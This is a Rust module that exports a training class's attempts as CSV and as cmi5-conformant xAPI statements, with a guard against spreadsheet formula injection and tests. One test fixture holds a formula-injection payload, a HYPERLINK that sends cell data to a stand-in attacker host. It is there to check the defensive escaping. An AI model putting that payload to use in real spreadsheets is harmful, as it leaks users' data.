//! A class's attempts for other tools: a CSV for spreadsheets, and xAPI
//! 1.0.3 statements conformant with cmi5 for the company's learning record
//! store.

use std::collections::HashMap;

use serde_json::{Value, json};

use callsim_core::points::Skill;
use callsim_core::wire::AttemptUpload;
use sha2::{Digest, Sha256};

use super::store::{AttemptRow, ClassRow, PillarScore, TraineeRow};
use super::verify::HubScenarios;

/// One row per attempt, oldest first.
pub fn csv(class: &ClassRow, trainees: &[TraineeRow], attempts: &[AttemptRow]) -> Result<String, String> {
    let names: HashMap<i64, &str> = trainees.iter().map(|t| (t.id, t.name.as_str())).collect();
    let mut out = ::csv::Writer::from_writer(Vec::new());
    let mut header = vec![
        "class",
        "join_code",
        "trainee",
        "scenario",
        "attempt_id",
        "finished_at",
        "seed",
        "language",
        "ending",
        "ending_kind",
        "success",
        "over_accommodated",
        "verified",
        "respect",
        "sincerity",
    ];
    header.extend(Skill::ALL.map(Skill::name));
    header.extend(["respect_raw", "sincerity_raw"]);
    out.write_record(&header).map_err(|e| e.to_string())?;
    for a in attempts {
        // Every text cell is guarded, not only the names: a scenario id,
        // an ending or (from before languages were checked) a language
        // from an unchecked upload is the game's word too.
        let mut row = vec![
            as_text(&class.name),
            as_text(&class.join_code),
            as_text(names.get(&a.trainee_id).copied().unwrap_or_default()),
            as_text(&a.scenario),
            as_text(&a.id),
            as_text(&a.finished_at),
            a.seed.to_string(),
            as_text(&a.language),
            as_text(&a.ending),
            as_text(&a.ending_kind),
            a.success.to_string(),
            a.over_accommodated.to_string(),
            a.verified.to_string(),
            a.respect.percent.to_string(),
            a.sincerity.percent.to_string(),
        ];
        row.extend(a.skills.iter().map(u8::to_string));
        row.extend([a.respect.raw.to_string(), a.sincerity.raw.to_string()]);
        out.write_record(&row).map_err(|e| e.to_string())?;
    }
    let bytes = out.into_inner().map_err(|e| e.to_string())?;
    String::from_utf8(bytes).map_err(|e| e.to_string())
}

/// A text cell, kept from being read as a formula when the CSV is opened
/// in a spreadsheet (`=HYPERLINK(...)` as a trainee's name or a scenario
/// id): a leading `=`, `+`, `-`, `@`, tab, carriage return or line feed
/// gets an apostrophe in front, as OWASP advises. Numbers the hub writes
/// itself (a negative raw total) are not text cells.
fn as_text(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// The verbs of the statements, from ADL's vocabulary as cmi5 uses them.
pub const COMPLETED: &str = "http://adlnet.gov/expapi/verbs/completed";
pub const PASSED: &str = "http://adlnet.gov/expapi/verbs/passed";
pub const FAILED: &str = "http://adlnet.gov/expapi/verbs/failed";
pub const ANSWERED: &str = "http://adlnet.gov/expapi/verbs/answered";

/// cmi5's context: the category every cmi5 defined statement carries, the
/// one for statements that count toward moving on, and its extensions.
pub const CMI5_CATEGORY: &str = "https://w3id.org/xapi/cmi5/context/categories/cmi5";
pub const MOVEON_CATEGORY: &str = "https://w3id.org/xapi/cmi5/context/categories/moveon";
pub const SESSION_ID: &str = "https://w3id.org/xapi/cmi5/context/extensions/sessionid";
pub const MASTERY_SCORE: &str = "https://w3id.org/xapi/cmi5/context/extensions/masteryscore";

/// Keeps an id usable inside an IRI path.
fn iri_segment(id: &str) -> String {
    id.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => char::from(b).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

fn score(p: PillarScore) -> Value {
    let (min, max) = (p.worst.min(p.raw), p.best.max(p.raw));
    json!({
        "scaled": f64::from(p.percent) / 100.0,
        "raw": p.raw,
        "min": min,
        "max": max,
    })
}

/// A UUID that is the same every time for the same `seed`: a statement
/// exported twice keeps its id, so a learning record store takes it once.
fn stable_uuid(seed: &str) -> String {
    let digest = Sha256::digest(seed.as_bytes());
    let mut bytes = [0u8; 16];
    bytes.copy_from_slice(&digest[..16]);
    uuid::Builder::from_random_bytes(bytes).into_uuid().to_string()
}

/// Statements for a learning record store, conformant with cmi5 (each
/// scenario an assignable unit, each attempt a session) in xAPI 1.0.3. Per
/// attempt, oldest first: an `answered` statement for each turn (the reply
/// chosen), `completed` (with the call's duration, no score), and for a
/// checked attempt `passed` or `failed` with the score against the class's
/// mastery score. An unchecked attempt gets no `passed`/`failed`: its
/// score is only the game's word. `base` is the hub's own address
/// (`http://host:port`): activity and extension ids live under it.
pub fn xapi(
    class: &ClassRow,
    trainees: &[TraineeRow],
    attempts: &[AttemptRow],
    library: &HubScenarios,
    base: &str,
) -> Vec<Value> {
    let names: HashMap<i64, &str> = trainees.iter().map(|t| (t.id, t.name.as_str())).collect();
    let class_iri = format!("{base}/class/{}", iri_segment(&class.join_code));
    let ext = |name: &str| format!("{base}/xapi/{name}");
    let mastery = f64::from(class.mastery_score) / 100.0;
    let mut statements = Vec::new();
    for a in attempts {
        let upload: Option<AttemptUpload> = serde_json::from_str(&a.body).ok();
        let language = if crate::is_language_tag(&a.language) {
            a.language.as_str()
        } else {
            "und"
        };
        let actor = json!({
            "objectType": "Agent",
            "name": names.get(&a.trainee_id).copied().unwrap_or_default(),
            "account": {"homePage": class_iri, "name": format!("trainee-{}", a.trainee_id)},
        });
        let scenario_iri = format!("{base}/scenarios/{}", iri_segment(&a.scenario));
        let title = library.title(&a.scenario).unwrap_or_else(|| a.scenario.clone());
        let title_lang = library
            .scenario(&a.scenario)
            .map_or_else(|| "en".to_owned(), |s| s.default_language.clone());
        let scenario = json!({
            "objectType": "Activity",
            "id": scenario_iri,
            "definition": {
                "name": {title_lang: title},
                "type": "http://adlnet.gov/expapi/activities/simulation",
            },
        });
        let grouping = json!([{"objectType": "Activity", "id": class_iri, "definition": {"name": {"en-US": class.name}}}]);
        // One registration per trainee in the class; the attempt is the session.
        let registration = stable_uuid(&format!("{class_iri} registration {}", a.trainee_id));
        let context = |categories: &[&str], extra: Value| {
            let mut extensions = json!({SESSION_ID: a.id, ext("seed"): a.seed.to_string()});
            if let (Some(map), Some(more)) = (extensions.as_object_mut(), extra.as_object()) {
                map.extend(more.clone());
            }
            let mut activities = json!({"grouping": grouping});
            if !categories.is_empty() {
                activities["category"] = categories
                    .iter()
                    .map(|id| json!({"objectType": "Activity", "id": id}))
                    .collect();
            }
            let mut c = json!({
                "registration": registration,
                "platform": "callsim",
                "contextActivities": activities,
                "extensions": extensions,
            });
            // xAPI wants an RFC 5646 tag there; an attempt stored before
            // uploads' languages were checked may carry anything.
            if language != "und" {
                c["language"] = json!(language);
            }
            c
        };
        let statement = |suffix: &str, verb: &str, object: &Value, result: Value, context: Value| {
            let display = verb.rsplit('/').next().unwrap_or(verb);
            json!({
                "id": stable_uuid(&format!("{} {suffix}", a.id)),
                "version": "1.0.3",
                "actor": actor,
                "verb": {"id": verb, "display": {"en-US": display}},
                "object": object,
                "result": result,
                "context": context,
                "timestamp": a.finished_at,
            })
        };

        if let Some(upload) = &upload {
            for t in &upload.debrief.turns {
                let node = json!({
                    "objectType": "Activity",
                    "id": format!("{scenario_iri}/nodes/{}", iri_segment(&t.turn.node)),
                    "definition": {
                        "name": {language: format!("{title}: turn {}", t.turn.number)},
                        "description": {language: t.turn.caller},
                        "type": "http://adlnet.gov/expapi/activities/cmi.interaction",
                        "interactionType": "choice",
                    },
                });
                let mut turn_context = context(&[], json!({}));
                turn_context["contextActivities"]["parent"] = json!([scenario]);
                statements.push(statement(
                    &format!("answered {}", t.turn.number),
                    ANSWERED,
                    &node,
                    json!({
                        "response": t.turn.reply,
                        "extensions": {
                            ext("reply-text"): t.turn.text,
                            ext("points"): t.turn.points.total(),
                            ext("best-reply"): t.was_best,
                        },
                    }),
                    turn_context,
                ));
            }
        }
        let seconds = upload.as_ref().map_or(0, |u| u.debrief.seconds);
        let duration = format!("PT{seconds}S");
        statements.push(statement(
            "completed",
            COMPLETED,
            &scenario,
            json!({"completion": true, "duration": duration}),
            context(
                &[CMI5_CATEGORY, MOVEON_CATEGORY],
                json!({ext("verified"): a.verified}),
            ),
        ));
        if a.verified {
            let both = PillarScore {
                percent: ((u16::from(a.respect.percent) + u16::from(a.sincerity.percent)) / 2) as u8,
                raw: a.respect.raw + a.sincerity.raw,
                worst: a.respect.worst + a.sincerity.worst,
                best: a.respect.best + a.sincerity.best,
            };
            let mut overall = score(both);
            // The mean of the two pillars, unrounded.
            let scaled = (f64::from(a.respect.percent) + f64::from(a.sincerity.percent)) / 200.0;
            overall["scaled"] = json!(scaled);
            let passed = scaled >= mastery;
            let skills: serde_json::Map<String, Value> = Skill::ALL
                .iter()
                .zip(a.skills)
                .map(|(s, p)| (s.name().to_owned(), json!(f64::from(p) / 100.0)))
                .collect();
            statements.push(statement(
                if passed { "passed" } else { "failed" },
                if passed { PASSED } else { FAILED },
                &scenario,
                json!({
                    "score": overall,
                    "success": passed,
                    "duration": duration,
                    "extensions": {
                        ext("respect"): score(a.respect),
                        ext("sincerity"): score(a.sincerity),
                        ext("sub-skills"): skills,
                        ext("ending"): {"id": a.ending, "kind": a.ending_kind, "good": a.success},
                        ext("over-accommodated"): a.over_accommodated,
                    },
                }),
                context(&[CMI5_CATEGORY, MOVEON_CATEGORY], json!({MASTERY_SCORE: mastery})),
            ));
        }
    }
    statements
}

#[cfg(test)]
mod tests {
    use super::*;
    use callsim_core::wire::Mode;

    const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

    fn formula_everywhere() -> (ClassRow, Vec<TraineeRow>, Vec<AttemptRow>) {
        let class = ClassRow {
            id: 1,
            join_code: FORMULA.into(),
            name: FORMULA.into(),
            mode: Mode::Practice,
            secret_hash: String::new(),
            scenarios: Vec::new(),
            created_at: "2026-12-01T09:00:00.000000Z".into(),
            closed_at: None,
            mastery_score: 80,
            typing_required: false,
        };
        let trainee = TraineeRow {
            id: 7,
            class_id: 1,
            name: FORMULA.into(),
            joined_at: "2026-12-01T09:00:00.000000Z".into(),
        };
        let pillar = PillarScore {
            percent: 40,
            raw: -3,
            worst: -10,
            best: 8,
        };
        let attempt = AttemptRow {
            id: FORMULA.into(),
            trainee_id: 7,
            class_id: 1,
            scenario: FORMULA.into(),
            seed: 1,
            language: FORMULA.into(),
            body: String::new(),
            verified: false,
            ending: FORMULA.into(),
            ending_kind: FORMULA.into(),
            over_accommodated: false,
            success: false,
            respect: pillar,
            sincerity: pillar,
            skills: [40; 4],
            finished_at: FORMULA.into(),
            received_at: FORMULA.into(),
        };
        (class, vec![trainee], vec![attempt])
    }

    #[test]
    fn no_text_cell_of_the_csv_starts_a_formula() {
        let (class, trainees, attempts) = formula_everywhere();
        let text = csv(&class, &trainees, &attempts).expect("a csv");
        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
        let headers = reader.headers().expect("a header").clone();
        let row = reader.records().next().expect("a row").expect("readable");
        let mut guarded = 0;
        for (name, cell) in headers.iter().zip(row.iter()) {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r']),
                "{name} would run as a formula: {cell}"
            );
            if cell == format!("'{FORMULA}") {
                guarded += 1;
            }
        }
        assert_eq!(
            guarded, 9,
            "class, join code, trainee, scenario, attempt id, finished_at, language, ending, ending kind:\n{text}"
        );
        // Numbers the hub writes stay numbers.
        let raw = headers.iter().position(|h| h == "respect_raw").expect("a column");
        assert_eq!(&row[raw], "-3");
    }

    #[test]
    fn a_stored_language_that_is_no_tag_stays_out_of_the_xapi_context() {
        let (class, trainees, attempts) = formula_everywhere();
        let statements = xapi(
            &class,
            &trainees,
            &attempts,
            &HubScenarios::default(),
            "http://hub",
        );
        assert!(
            statements[0]["context"].get("language").is_none(),
            "{}",
            statements[0]
        );
        assert_eq!(statements[0]["context"]["platform"], "callsim");
    }
}
